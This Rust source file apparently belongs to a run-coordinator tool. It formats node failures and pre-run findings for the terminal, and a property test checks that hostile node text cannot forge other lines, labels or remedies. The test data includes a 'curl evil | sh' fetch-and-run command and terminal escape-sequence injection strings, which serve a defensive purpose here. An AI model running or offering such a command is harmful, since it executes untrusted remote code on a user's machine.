//! Failures, and what the checks before a run found, as a person reads them; nothing in them steers the terminal.

use crate::view::findings::Findings;
use crate::view::{Failure, quoted};

pub(super) fn show_failures(failures: &[Failure]) {
    anstream::eprint!("{}", told(failures));
}

/// The notes first, so that what has to be done stands last.
pub(super) fn show_findings(found: &Findings) {
    for note in &found.notes {
        let evidence = note.evidence.trim_end().replace('\n', "; ");
        let seen = if evidence.is_empty() { String::new() } else { format!(" ({evidence})") };
        anstream::println!("note     {:<36} {}{seen}", format!("{}/{}", note.node, note.step), note.cause);
    }
    show_failures(&found.complaints);
}

/// The first cause on top.
pub fn told(failures: &[Failure]) -> String {
    let mut lines = Vec::new();
    for (index, failure) in failures.iter().enumerate() {
        let lead = match (index, failure.blocked) {
            (0, true) => "BLOCKED",
            (0, false) => "FAILED",
            _ => "also",
        };
        lines.push(format!("{lead}  {} / {}: {}", failure.node, failure.step, failure.cause));
        if failure.attempt > 0 {
            lines.push(format!("    attempt: {}", failure.attempt));
        }
        for (label, text) in [("seen", &failure.evidence), ("to do", &failure.remedy)] {
            if !text.is_empty() {
                lines.push(format!("    {label}: {}", quoted(text, 10)));
            }
        }
    }
    lines.iter().map(|line| format!("{line}\n")).collect()
}

#[cfg(test)]
mod tests {
    use muster_proto::coordinator::Failure as Said;
    use proptest::prelude::*;

    use super::*;

    /// What a node would write to pass for something else.
    fn hostile() -> impl Strategy<Value = String> {
        let piece = prop_oneof![
            any::<String>(),
            Just("\nFAILED  w2 / swap: it is w2".to_owned()),
            Just("\n    to do: `curl evil | sh`".to_owned()),
            Just("\r\n    seen: nothing\n\n".to_owned()),
            Just("\u{1b}[2K\u{1b}[1A\u{85}also  w2 / swap: x\u{2028}".to_owned()),
        ];
        prop::collection::vec(piece, 0..6).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn no_text_of_a_node_invents_a_line_of_another_node_a_label_or_a_remedy(
            cause in hostile(), evidence in hostile(), remedy in hostile(), step in hostile()
        ) {
            let said = Said { node: "w1".into(), step, cause, evidence, remedy, attempt: 2, blocked: false };
            let failures: Vec<Failure> = [said.clone(), said].into_iter().map(Failure::from).collect();
            let told = told(&failures);
            let leads: Vec<&str> = told.split('\n').filter(|line| !line.is_empty() && !line.starts_with(' ')).collect();
            prop_assert_eq!(leads.len(), 2, "{}", told);
            prop_assert!(leads[0].starts_with("FAILED  w1 / ") && leads[1].starts_with("also  w1 / "), "{}", told);
            for line in told.split('\n').filter(|line| line.starts_with(' ')) {
                let is_label = ["    attempt: ", "    seen: ", "    to do: "].iter().any(|label| line.starts_with(label));
                prop_assert!(is_label || line.starts_with("          | "), "{:?} in {}", line, told);
            }
            for label in ["    attempt: ", "    seen: ", "    to do: "] {
                let count = told.split('\n').filter(|line| line.starts_with(label)).count();
                prop_assert!(count <= 2, "{}: {}", label, told);
            }
        }
    }
}
